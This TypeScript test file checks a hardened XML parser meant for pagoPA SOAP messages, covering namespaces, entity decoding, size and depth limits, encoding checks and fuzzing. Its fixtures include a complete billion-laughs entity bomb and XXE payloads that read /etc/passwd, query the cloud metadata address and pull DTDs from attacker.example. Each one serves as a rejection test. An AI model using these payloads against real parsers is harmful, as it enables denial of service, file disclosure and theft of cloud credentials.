import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { parseXml, XML_PARSE_DEFAULTS, XmlError, type XmlErrorKind, type XmlParseOptions } from './safe-xml.ts';

const SOAP = 'http://schemas.xmlsoap.org/soap/envelope/';
const PAFN = 'http://pagopa-api.pagopa.gov.it/pa/paForNode.xsd';

function rejects(input: string | Uint8Array, kind: XmlErrorKind, options?: XmlParseOptions): XmlError {
  try {
    parseXml(input, options);
  } catch (error) {
    assert.ok(error instanceof XmlError, String(error));
    assert.equal(error.kind, kind, error.message);
    return error;
  }
  assert.fail(`expected XmlError ${kind} for ${typeof input === 'string' ? input.slice(0, 80) : 'bytes'}`);
}

// The classic entity-expansion bomb: 10 levels of 10 references, "lol" × 10^8 ≈ 300 MB once expanded.
const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
]>
<lolz>&lol8;</lolz>
`;

describe('parseXml: well-formed documents', () => {
  it('resolves namespaces of a SOAP envelope, with unqualified pagoPA children', () => {
    const root = parseXml(
      `<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="${SOAP}" xmlns:pafn="${PAFN}">
  <soapenv:Header/>
  <soapenv:Body>
    <pafn:paVerifyPaymentNoticeReq><idPA>77777777777</idPA></pafn:paVerifyPaymentNoticeReq>
  </soapenv:Body>
</soapenv:Envelope>`,
    );
    assert.deepEqual([root.name, root.ns, root.prefix], ['Envelope', SOAP, 'soapenv']);
    const [header, body] = root.children;
    assert.equal(header!.name, 'Header');
    const request = body!.children[0]!;
    assert.deepEqual([request.name, request.ns, request.prefix], ['paVerifyPaymentNoticeReq', PAFN, 'pafn']);
    const idPA = request.children[0]!;
    assert.deepEqual([idPA.name, idPA.ns, idPA.prefix, idPA.text], ['idPA', '', '', '77777777777']);
    assert.equal(idPA.namespaces.get('pafn'), PAFN);
  });

  it('applies default namespaces, their undeclaration and inner redeclarations', () => {
    const root = parseXml(
      '<a xmlns="urn:1"><b/><c xmlns=""><d/></c><p:e xmlns:p="urn:2"><p:f xmlns:p="urn:3"/></p:e></a>',
    );
    const [b, c, e] = root.children;
    assert.equal(root.ns, 'urn:1');
    assert.equal(b!.ns, 'urn:1');
    assert.equal(c!.ns, '');
    assert.equal(c!.children[0]!.ns, '');
    assert.equal(e!.ns, 'urn:2');
    assert.equal(e!.children[0]!.ns, 'urn:3');
  });

  it('gives unprefixed attributes no namespace and resolves prefixed ones; xmlns is not an attribute', () => {
    const root = parseXml('<a xmlns="urn:d" xmlns:x="urn:x" id="1" x:id="2" xml:lang="it"/>');
    assert.deepEqual(
      root.attributes.map((a) => [a.name, a.ns, a.prefix, a.value]),
      [
        ['id', '', '', '1'],
        ['id', 'urn:x', 'x', '2'],
        ['lang', 'http://www.w3.org/XML/1998/namespace', 'xml', 'it'],
      ],
    );
  });

  it('decodes the five predefined entities and character references, nothing else', () => {
    const root = parseXml(
      '<a t="&quot;&apos;&lt;&gt;&amp;">&lt;b&gt; &amp; &quot;&apos; &#65;&#x42;&#x1F600; &#0000067;</a>',
    );
    assert.equal(root.text, '<b> & "\' AB😀 C');
    assert.equal(root.attributes[0]!.value, '"\'<>&');
  });

  it('keeps CDATA verbatim, skips comments and concatenates the text around them', () => {
    const root = parseXml('<a>x<!-- hidden <b> -->y<![CDATA[<not-a-tag> &amp; ]]]]>z</a>');
    assert.equal(root.text, 'xy<not-a-tag> &amp; ]]z');
    assert.equal(root.children.length, 0);
  });

  it('normalizes line ends, and attribute whitespace except where written as references', () => {
    const root = parseXml('<a v="1\t2\n3&#10;4&#9;5">l1\r\nl2\rl3</a>');
    assert.equal(root.text, 'l1\nl2\nl3');
    assert.equal(root.attributes[0]!.value, '1 2 3\n4\t5');
  });

  it('accepts a UTF-8 byte order mark, lower-case encoding names and standalone', () => {
    const bom = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from("<?xml version='1.0' encoding='utf-8' standalone='yes'?><a>è</a>"),
    ]);
    assert.equal(parseXml(bom).text, 'è');
    assert.equal(parseXml('\uFEFF<a/>').name, 'a');
  });

  it('accepts whitespace inside tags, comments around the root and non-ASCII names', () => {
    const root = parseXml('<!-- before --> <città\n  attr = "v" >é</città \n> <!-- after -->\n');
    assert.equal(root.name, 'città');
    assert.equal(root.attributes[0]!.value, 'v');
  });

  it('takes a Buffer or a string alike', () => {
    const text = `<p:a xmlns:p="urn:p"><b c="d">e &amp; f</b></p:a>`;
    assert.deepEqual(parseXml(Buffer.from(text)), parseXml(text));
  });
});

describe('parseXml: DOCTYPE and entity attacks', () => {
  it('refuses the billion laughs bomb at the DOCTYPE, before any entity is read', () => {
    const error = rejects(BILLION_LAUGHS, 'doctype');
    assert.equal(error.line, 2); // the DOCTYPE line: nothing after it was parsed
    rejects(Buffer.from(BILLION_LAUGHS), 'doctype');
    // The same bomb without its DOCTYPE: the references cannot name anything.
    const withoutDtd = BILLION_LAUGHS.slice(BILLION_LAUGHS.indexOf('<lolz>'));
    assert.match(rejects(withoutDtd, 'entity').message, /unknown entity &lol8;/);
  });

  it('refuses external entities (XXE) and parameter entities', () => {
    for (const doctype of [
      '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>',
      '<!DOCTYPE a [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><a>&xxe;</a>',
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><a/>',
      '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>',
      '<!DOCTYPE a PUBLIC "-//A//DTD A//EN" "a.dtd"><a/>',
    ]) {
      rejects(doctype, 'doctype');
    }
  });

  it('refuses a DOCTYPE wherever it appears, however it is spelled', () => {
    rejects('<a/><!DOCTYPE a>', 'doctype');
    rejects('<a><![CDATA[<!DOCTYPE a>]]></a>', 'doctype');
    rejects('<!doctype a><a/>', 'doctype');
    rejects('<a><!DocType a></a>', 'doctype');
    rejects('<!DOCTYPE a><!DOCTYPE b><a/>', 'doctype');
    rejects(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('\n\n<!DOCTYPE a><a/>')]), 'doctype');
    assert.equal(rejects(Buffer.from('\n\n<!DOCTYPE a><a/>'), 'doctype').line, 3);
  });

  it('refuses other markup declarations and unknown entity references', () => {
    rejects('<a><!ENTITY x "y"></a>', 'malformed');
    rejects('<a>&nbsp;</a>', 'entity');
    rejects('<a b="&x;"/>', 'entity');
    rejects('<a>&amp</a>', 'malformed');
    rejects('<a>AT&T</a>', 'malformed');
  });

  it('refuses character references to characters XML cannot hold', () => {
    for (const ref of ['&#0;', '&#x0;', '&#8;', '&#xD800;', '&#xFFFE;', '&#xFFFF;']) rejects(`<a>${ref}</a>`, 'entity');
    for (const ref of ['&#x110000;', '&#X41;', '&#;', '&#x;', '&#12a;', '&#99999999999999999999;']) {
      rejects(`<a>${ref}</a>`, 'malformed');
    }
  });
});

describe('parseXml: limits hold before or while parsing', () => {
  it('refuses input above maxBytes before looking at it', () => {
    const limit = XML_PARSE_DEFAULTS.maxBytes;
    const exact = `<a>${'x'.repeat(limit - 7)}</a>`;
    assert.equal(Buffer.byteLength(exact), limit);
    assert.equal(parseXml(exact).text.length, limit - 7);
    rejects(`${exact} `, 'too-large');
    rejects(Buffer.alloc(limit + 1, 0x3c), 'too-large'); // not XML at all: size is checked first
    rejects(`<a>${'è'.repeat(limit / 2)}</a>`, 'too-large'); // fewer characters than bytes
    rejects('<a>12345</a>', 'too-large', { maxBytes: 10 });
  });

  it('refuses nesting deeper than maxDepth, at the first element too deep', () => {
    const nest = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
    parseXml(nest(XML_PARSE_DEFAULTS.maxDepth));
    rejects(nest(XML_PARSE_DEFAULTS.maxDepth + 1), 'too-deep');
    const hostile = rejects('<a>'.repeat(10_000), 'too-deep'); // never closed: stops long before the end
    assert.equal(hostile.column, 3 * XML_PARSE_DEFAULTS.maxDepth + 1);
    rejects(nest(3), 'too-deep', { maxDepth: 2 });
  });

  it('refuses more than maxElements elements', () => {
    const many = (n: number) => `<r>${'<e/>'.repeat(n - 1)}</r>`;
    assert.equal(parseXml(many(XML_PARSE_DEFAULTS.maxElements)).children.length, XML_PARSE_DEFAULTS.maxElements - 1);
    rejects(many(XML_PARSE_DEFAULTS.maxElements + 1), 'too-many-elements');
  });

  it('decodes a flood of character references without amplification', () => {
    const flood = `<a>${'&#65;'.repeat(200_000)}</a>`; // 1 MB of references: 200 000 characters, never more
    assert.equal(parseXml(flood).text.length, 200_000);
  });

  it('resolves prefixes through many nested scopes without copying them', () => {
    const depth = XML_PARSE_DEFAULTS.maxDepth;
    const open = Array.from({ length: depth }, (_, i) => `<p${i}:e xmlns:p${i}="urn:${i}" xmlns:q="urn:q${i}">`).join(
      '',
    );
    const close = Array.from({ length: depth }, (_, i) => `</p${depth - 1 - i}:e>`).join('');
    let element = parseXml(`${open}${close}`);
    for (let i = 1; i < depth; i++) element = element.children[0]!;
    assert.deepEqual(
      [element.ns, element.namespaces.get('p0'), element.namespaces.get('q')],
      [`urn:${depth - 1}`, 'urn:0', `urn:q${depth - 1}`],
    );
  });

  it('refuses more than maxAttributes attributes on one element (xmlns declarations count)', () => {
    const attributes = (n: number) => Array.from({ length: n }, (_, i) => ` a${i}="${i}"`).join('');
    parseXml(`<a${attributes(XML_PARSE_DEFAULTS.maxAttributes)}/>`);
    rejects(`<a${attributes(XML_PARSE_DEFAULTS.maxAttributes + 1)}/>`, 'too-many-attributes');
    rejects('<a xmlns:a="urn:a" xmlns:b="urn:b" c="1"/>', 'too-many-attributes', { maxAttributes: 2 });
  });
});

describe('parseXml: encodings', () => {
  it('refuses declared encodings other than UTF-8', () => {
    for (const encoding of ['ISO-8859-1', 'windows-1252', 'UTF-16', 'US-ASCII', 'UTF8']) {
      rejects(`<?xml version="1.0" encoding="${encoding}"?><a/>`, 'encoding');
    }
  });

  it('refuses bytes that are not UTF-8, saying where', () => {
    const latin1 = Buffer.from('<a>caff\xe8</a>', 'latin1');
    assert.match(rejects(latin1, 'encoding').message, /byte 7/);
    rejects(Buffer.from([0x3c, 0x61, 0x3e, 0xc0, 0xaf, 0x3c, 0x2f, 0x61, 0x3e]), 'encoding'); // overlong "/"
    rejects(Buffer.from([0x3c, 0x61, 0x3e, 0xed, 0xa0, 0x80, 0x3c, 0x2f, 0x61, 0x3e]), 'encoding'); // encoded surrogate
    rejects(Buffer.from('\ufeff<a/>', 'utf16le'), 'encoding');
    rejects(Buffer.from([0xfe, 0xff, 0x00, 0x3c, 0x00, 0x61, 0x00, 0x2f, 0x00, 0x3e]), 'encoding');
    rejects('<a>\uD800</a>', 'encoding'); // a string with a lone surrogate
  });

  it('refuses characters outside XML 1.0 and versions other than 1.0', () => {
    for (const c of ['\u0000', '\u0001', '\u001F', '\uFFFE', '\uFFFF']) rejects(`<a>${c}</a>`, 'malformed');
    rejects('<a b="\u0007"/>', 'malformed');
    rejects('<?xml version="1.1"?><a/>', 'malformed');
    rejects('<?xml encoding="UTF-8"?><a/>', 'malformed');
  });
});

describe('parseXml: well-formedness errors', () => {
  const cases: [string, XmlErrorKind, string][] = [
    ['', 'malformed', 'empty input'],
    ['   ', 'malformed', 'no root'],
    ['text', 'malformed', 'text instead of a root'],
    ['<a>', 'malformed', 'unclosed root'],
    ['<a><b></a>', 'malformed', 'mismatched end tag'],
    ['<a></ab>', 'malformed', 'end tag longer than the start tag'],
    ['<ab></a>', 'malformed', 'end tag shorter than the start tag'],
    ['<a></a', 'malformed', 'unclosed end tag'],
    ['<a/><b/>', 'malformed', 'two roots'],
    ['<a/>text', 'malformed', 'text after the root'],
    ['x<a/>', 'malformed', 'text before the root'],
    ['<a b=c/>', 'malformed', 'unquoted attribute'],
    ['<a b/>', 'malformed', 'attribute without value'],
    ['<a b="1"c="2"/>', 'malformed', 'no space between attributes'],
    ['<a b="1" b="2"/>', 'malformed', 'duplicate attribute'],
    ['<a xmlns:p="urn:x" xmlns:q="urn:x" p:b="1" q:b="2"/>', 'malformed', 'same attribute through two prefixes'],
    ['<a b="x<y"/>', 'malformed', "'<' in an attribute value"],
    ['<a b="1/>', 'malformed', 'unclosed attribute value'],
    ['<1a/>', 'malformed', 'name starting with a digit'],
    ['<a><-b/></a>', 'malformed', 'name starting with a dash'],
    ['< a/>', 'malformed', 'space before the name'],
    ['<a>]]></a>', 'malformed', "']]>' in text"],
    ['<![CDATA[x]]><a/>', 'malformed', 'CDATA outside the root'],
    ['<a><![CDATA[x</a>', 'malformed', 'unclosed CDATA'],
    ['<a><!-- a -- b --></a>', 'malformed', "'--' in a comment"],
    ['<a><!-- x ---></a>', 'malformed', "comment ending in '--->'"],
    ['<a><!-- x </a>', 'malformed', 'unclosed comment'],
    [' <?xml version="1.0"?><a/>', 'malformed', 'XML declaration not at the start'],
    ['<a><?xml version="1.0"?></a>', 'malformed', 'XML declaration inside'],
    ['<?xml-stylesheet href="x.xsl"?><a/>', 'processing-instruction', 'stylesheet PI'],
    ['<a><?php echo 1; ?></a>', 'processing-instruction', 'PI inside'],
    ['<p:a/>', 'namespace', 'undeclared element prefix'],
    ['<a p:b="1"/>', 'namespace', 'undeclared attribute prefix'],
    ['<a:b:c xmlns:a="urn:a"/>', 'namespace', 'two colons'],
    ['<:a/>', 'namespace', 'empty prefix'],
    ['<a: xmlns:a="urn:a"/>', 'namespace', 'empty local name'],
    ['<a xmlns:p=""/>', 'namespace', 'undeclaring a prefix'],
    ['<a xmlns:xml="urn:x"/>', 'namespace', 'rebinding xml'],
    ['<a xmlns:x="http://www.w3.org/XML/1998/namespace"/>', 'namespace', 'binding the xml namespace elsewhere'],
    ['<a xmlns:xmlns="urn:x"/>', 'namespace', 'declaring xmlns'],
    ['<xmlns:a/>', 'namespace', 'xmlns as element prefix'],
  ];
  for (const [input, kind, what] of cases) {
    it(`${what} → ${kind}`, () => {
      rejects(input, kind);
    });
  }

  it('reports line and column', () => {
    const error = rejects('<a>\n  <b>\n  </c>\n</a>', 'malformed');
    assert.deepEqual([error.line, error.column], [3, 3]);
    assert.match(error.message, /\(line 3, column 3\)$/);
  });
});

describe('parseXml: arbitrary input', () => {
  it('either parses or throws XmlError, for any string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        try {
          parseXml(text);
        } catch (error) {
          assert.ok(error instanceof XmlError, String(error));
        }
      }),
      { numRuns: 2_000 },
    );
  });

  it('either parses or throws XmlError, for mangled SOAP messages', () => {
    const valid = `<?xml version="1.0"?><s:Envelope xmlns:s="${SOAP}"><s:Body><p:r xmlns:p="${PAFN}" a="1"><x>&amp;<![CDATA[y]]><!--z--></x></p:r></s:Body></s:Envelope>`;
    const tokens = [
      '<',
      '>',
      '/',
      '&',
      ';',
      '"',
      "'",
      '=',
      ':',
      '!',
      '?',
      '[',
      ']',
      '-',
      ' ',
      'x',
      '#',
      '\u00e8',
      '\u0000',
    ];
    const mangled = fc
      .array(fc.tuple(fc.nat(valid.length), fc.nat(3), fc.constantFrom(...tokens)), { maxLength: 6 })
      .map((edits) =>
        edits.reduce((text, [at, cut, token]) => text.slice(0, at) + token + text.slice(at + cut), valid),
      );
    fc.assert(
      fc.property(mangled, (text) => {
        try {
          parseXml(text);
          parseXml(Buffer.from(text));
        } catch (error) {
          assert.ok(error instanceof XmlError, String(error));
        }
      }),
      { numRuns: 3_000 },
    );
  });
});
